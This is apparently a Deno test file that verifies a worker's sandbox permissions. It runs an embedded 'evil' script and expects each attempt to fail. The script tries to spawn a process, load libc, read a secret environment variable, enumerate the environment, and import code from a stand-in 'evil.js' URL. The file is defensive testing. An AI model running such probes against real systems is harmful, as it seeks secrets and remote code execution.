import { strict as assert } from "node:assert";
import { PERMISSION_FLAGS, PERMISSIONS, START_COMMAND } from "../../build/permissions.ts";
import { run, TestFolder } from "./files.ts";

/** Tries what the worker must not be able to do, and says what came of each. */
const EVIL = `
const tried = {};
const attempt = async (name, work) => {
  try {
    tried[name] = await work() ?? "nothing";
  } catch (error) {
    tried[name] = error.name;
  }
};
await attempt("run", () => new Deno.Command("true").output());
await attempt("ffi", () => Deno.dlopen("libc.so.6", {}));
await attempt("env", () => Deno.env.get("SOMEBODYS_SECRET"));
await attempt("all env", () => Object.keys(Deno.env.toObject()).filter((name) => name !== "LOG_LEVEL").join());
await attempt("sys", () => Deno.networkInterfaces());
await attempt("import", () => import("https://deno.land/x/evil.js"));
await attempt("a setting", () => Deno.env.get("LOG_LEVEL"));
await attempt("hostname", () => typeof Deno.hostname());
console.log(JSON.stringify(tried));
`;

Deno.test("The start task has the permissions of the built file", async () => {
  const { tasks } = JSON.parse(await Deno.readTextFile(new URL("../../deno.json", import.meta.url)));
  assert.equal(
    tasks.start.command,
    START_COMMAND,
    "Type: deno run --allow-read --allow-write=deno.json build/permissions.ts",
  );
});

Deno.test("PERMISSIONS are each given with a reason, environment and system by name", () => {
  const flags = PERMISSIONS.map(({ flag }) => flag);
  assert.deepEqual(flags.map((flag) => flag.replace(/=.*/, "")), [
    "--allow-net",
    "--allow-read",
    "--allow-write",
    "--allow-env",
    "--ignore-env",
    "--allow-sys",
    "--deny-import",
    "--unstable-net",
  ]);
  for (const named of ["--allow-env=", "--allow-sys="]) {
    assert.ok(flags.some((flag) => flag.startsWith(named)), named);
  }
  assert.ok(PERMISSIONS.every(({ reason }) => reason.length > 20));
});

Deno.test("Every variable that the worker asks for by its name it may see, or it would silently not be there", () => {
  const [, names = ""] = PERMISSIONS.map(({ flag }) => flag.split("=")).find(([name]) =>
    name === "--allow-env"
  )!;
  const asked = sources(new URL("../../src/", import.meta.url)).flatMap((text) =>
    [...text.matchAll(/\benv\.(?:get|has)\("(\w+)"\)/g)].map(([, name]) => name!)
  );
  const unseen = asked.filter((name) => !names.split(",").includes(name));
  assert.deepEqual(unseen, [], "Put them into build/permissions.ts");
});

Deno.test("Under PERMISSION_FLAGS no program is run, no library loaded, no other variable seen", async () => {
  await using folder = new TestFolder();
  const evil = folder.at("evil.mjs");
  await Deno.writeTextFile(evil, EVIL);
  const { stdout, stderr } = await run(
    Deno.execPath(),
    ["run", "--no-config", "--no-lock", "--no-remote", "--no-npm", ...PERMISSION_FLAGS, evil],
    {
      clearEnv: true,
      env: { HOME: folder.path, PATH: Deno.env.get("PATH")!, SOMEBODYS_SECRET: "x", LOG_LEVEL: "info" },
    },
  );
  assert.deepEqual(JSON.parse(stdout || `"${stderr}"`), {
    "run": "NotCapable",
    "ffi": "NotCapable",
    "env": "nothing",
    "all env": "",
    "sys": "NotCapable",
    "import": "TypeError",
    "a setting": "info",
    "hostname": "string",
  });
});

function sources(folder: URL): string[] {
  return [...Deno.readDirSync(folder)].flatMap(({ name, isDirectory }) =>
    isDirectory ? sources(new URL(`${name}/`, folder)) : Deno.readTextFileSync(new URL(name, folder))
  );
}
